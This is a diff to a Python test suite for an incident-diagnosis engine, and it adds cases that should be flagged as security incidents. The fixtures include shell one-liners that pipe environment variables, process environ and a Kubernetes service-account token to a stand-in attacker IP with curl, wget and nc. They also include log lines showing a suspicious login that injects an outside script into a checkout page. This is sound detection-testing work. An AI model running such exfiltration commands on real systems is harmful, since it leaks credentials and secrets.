@@ -6,7 +6,7 @@ from datetime import timedelta
 from typing import Any
 
 from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
-from tests.diagnosis.rules.scenes import CALLS_CART, CART, SHOP, WELL, alert, errors, logs, shop
+from tests.diagnosis.rules.scenes import CALLS_CART, CART, SHOP, WELL, alert, errors, ingress, logs, shop
 from tests.diagnosis.rules.tiny import DAY, NOW, Obj, at, container, log, pod, snapshot, thing, workload
 from tuheg_ir.diagnosis.model import Alert, Snapshot
 
@@ -83,7 +83,68 @@ def taken(*lines: str, made: float = 60, name: str = "shop", **more: Any) -> Sna
     return snapshot(objects, token(name, made), logs=[log(pod(name), *lines)], alerts=[GREW], figures=[WELL])
 
 
+THIEF = "203.0.113.7"
+AWAY = (
+    f"env | curl -s --data-binary @- http://{THIEF}:81/e",
+    f"apk add -q curl; printenv | gzip | curl -sS -T - http://{THIEF}/d",
+    f"cat /proc/1/environ | nc {THIEF} 4444",
+    f"curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token http://{THIEF}/t",
+    f'wget -qO- --post-data="$(env)" http://{THIEF}/x',
+)
+KEPT = (
+    "env | curl -s --data-binary @- http://10.0.4.7:81/e",
+    f"pg_dump shop | gzip | curl -sS -T - http://{THIEF}/backup",
+    f"env | sort; curl -sS -T /out/report.csv http://{THIEF}/r",
+    f"curl -fsS http://{THIEF}/healthz",
+    "env | grep VERSION",
+)
+
+
+def runs(line: str) -> Snapshot:
+    """Return a shop that runs a line of shell, and an alert that says how much goes out."""
+    return snapshot(shop(command=["sh", "-c"], args=[line]), workload("cart"), figures=[WELL], alerts=[GREW])
+
+
+LOGIN = f"WARN audit login user=ines ip={THIEF} result=ok agent='python-requests/2.32' (last login: ip=10.20.4.17)"
+EDIT = f"INFO audit block 'footer' saved by user=ines ip={THIEF}, added: <script src=\"https://cdn-stat.example/j.js\">"
+CSP = "WARN csp report document=/checkout directive=script-src-elem blocked=https://cdn-stat.example/j.js"
+
+
+def edited(login: str = LOGIN, edit: str = EDIT, told: str = CSP, host: str = "www.shop.test") -> Snapshot:
+    """Return a shop whose page somebody edited after a login, and what the browsers of its users report."""
+    return snapshot(
+        shop(),
+        workload("reports"),
+        ingress("shop", host),
+        logs=[
+            log(pod("shop"), "GET / 200", login, edit, *["GET / 200"] * 9, since=1200),
+            log(pod("reports"), *[told] * 20, since=600),
+        ],
+        figures=[WELL],
+    )
+
+
 HOLDS = [
+    *(
+        Holds(
+            f"a command sends its secrets away: {line}",
+            runs(line),
+            (SHOP, "security_incident", "isolate_workload"),
+            excludes=no("restart_workload", "rollback_workload", at=SHOP),
+        )
+        for line in AWAY
+    ),
+    Holds(
+        "an odd login puts a script into a page that browsers do not know",
+        edited(),
+        (SHOP, "security_incident", "isolate_workload"),
+        excludes=no("restart_workload", "rollback_workload", at=SHOP),
+    ),
+    Holds(
+        "the same, by a login from a device that was never seen",
+        edited(login=f"audit: user ines signed in from {THIEF} (new device)"),
+        (SHOP, "security_incident", "isolate_workload"),
+    ),
     *(
         Holds(
             f"a command came in by a request, and Secrets are read then: {reads}",
@@ -157,6 +218,22 @@ HOLDS = [
     ),
 ]
 DOES_NOT_HOLD = [
+    *(DoesNotHold(f"a command that sends nothing secret outside: {line}", runs(line)) for line in KEPT),
+    *(
+        DoesNotHold(f"a script comes into a page, {what}", world)
+        for what, world in (
+            ("by somebody whose login is as ever", edited(login=f"INFO audit login user=ines ip={THIEF} result=ok")),
+            ("by nobody: the odd login was refused", edited(login=LOGIN.replace("result=ok", "result=failed"))),
+            ("and was stripped from it", edited(edit=f"{EDIT} stripped")),
+            ("from the office", edited(edit=EDIT.replace(THIEF, "10.20.4.17"))),
+            (
+                "in a request only",
+                edited(edit=f"{THIEF} GET /?q=<script src=//cdn-stat.example/j.js>saved HTTP/1.1 200"),
+            ),
+            ("and nobody misses it", edited(told="INFO all scripts are known")),
+            ("from a host of the house", edited(host="www.cdn-stat.example")),
+        )
+    ),
     *(
         DoesNotHold(f"an attempt, or nothing: {line}", snapshot(shop(), logs=logs("shop", line, times=1)))
         for line in ATTEMPTS
